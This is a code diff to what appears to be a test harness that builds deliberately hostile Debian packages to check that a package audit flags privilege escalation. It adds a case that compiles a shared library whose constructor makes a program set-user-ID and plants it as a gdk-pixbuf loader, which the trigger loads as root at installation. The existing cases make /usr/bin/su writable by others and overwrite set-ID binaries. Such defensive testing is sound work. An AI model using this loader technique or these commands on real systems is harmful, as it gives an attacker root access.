@@ -122,6 +122,9 @@ HOSTILE = {
     "sort-other": "sort -o /usr/bin/newgrp {D}/mode",
     # a set-ID program of the system made writable by others
     "chmod-other": "chmod o+w /usr/bin/su",
+    # no script at all: a gdk-pixbuf loader, which gdk-pixbuf's trigger loads as root at
+    # the installation (its constructor runs), makes the program set-ID
+    "loader": ("postinst", ":"),
     "perl": None,
     # the preinst runs before dpkg unpacks: a chmod there has no effect on a fresh
     # installation, nor has a dpkg-statoverride (dpkg read its database before the
@@ -133,7 +136,8 @@ HOSTILE = {
     "preinst-absent": ("preinst", "if [ -e {P} ]; then :; else chmod 4755 /usr/bin/yes; fi"),
 }
 PROVEN = ("link-climb", "link-climb-var", "link-dir-link", "while-read-eaten",
-          "while-read-asks", "conffile-other")
+          "while-read-asks", "conffile-other", "loader")
+LOADERS = "./usr/lib/x86_64-linux-gnu/gdk-pixbuf-2.0/2.10.0/loaders/"
 # Those that write over a set-ID program of the system (dpkg leaves it set-ID with the
 # content of the member named, relative to the package's directory), or copy or link one
 # (None): the audit must call them incomplete.
@@ -142,6 +146,17 @@ PROVEN_OTHER = {"write-other": ("/usr/bin/chfn", "prog"), "write-unknown": ("/us
                 "chmod-other": ("/usr/bin/su", None),
                 "copy-other": ("/usr/local/bin/s2c-copy-other", None),
                 "link-other": ("/usr/local/bin/s2c-link-other", None)}
+
+
+def constructor_so(root, prog):
+    """A shared library whose constructor makes @prog set-user-ID as it is loaded."""
+    src = os.path.join(root, "loader.c")
+    out = os.path.join(root, "loader.so")
+    with open(src, "w") as f:
+        f.write("#include <sys/stat.h>\n__attribute__((constructor)) static void s2c(void)\n"
+                f"{{ chmod(\"{prog}\", 04755); }}\n")
+    subprocess.run(["cc", "-shared", "-fPIC", "-o", out, src], check=True)
+    return open(out, "rb").read()
 
 
 def hostile_debs(root):
@@ -174,6 +189,12 @@ def hostile_debs(root):
                          data=f"#!/bin/sh\nchmod 4755 {p}\n".encode()),
                 mk.entry("./etc/", "dir", 0o755),
                 mk.entry(f"./etc/s2c-{name}.conf", data=b"# packed\nsuid=yes\n")]
+        if name == "loader":
+            data += [mk.entry(d, "dir", 0o755) for d in (
+                "./usr/lib/x86_64-linux-gnu/", "./usr/lib/x86_64-linux-gnu/gdk-pixbuf-2.0/",
+                "./usr/lib/x86_64-linux-gnu/gdk-pixbuf-2.0/2.10.0/", LOADERS)]
+            data.append(mk.entry(LOADERS + "libpixbufloader-s2c.so", mode=0o644,
+                                 data=constructor_so(root, p)))
         control = {which: script, "conffiles": f"/etc/s2c-{name}.conf\n"}
         out[pkg] = mk.write(os.path.join(root, f"{pkg}_1.0_all.deb"),
                             mk.deb_bytes(pkg, arch="all", scripts=control, data=data))
@@ -346,6 +367,10 @@ def dpkg_differential_inside(ctx):
     for case in cases:
         stamp()
         rc, err = install(case["package"], case["deb"])
+        if case["label"] == "hostile/loader":
+            # what another package's trigger runs at the end of this installation
+            subprocess.run(["dpkg", "--triggers-only", "--pending"], capture_output=True,
+                           timeout=600)
         if rc != 0 and case["label"].startswith("hostile/"):
             print(f"  note: {case['label']}: dpkg exit {rc}: {err.strip()[-160:]!r}")
         if rc != 0 and not case["label"].startswith("hostile/"):
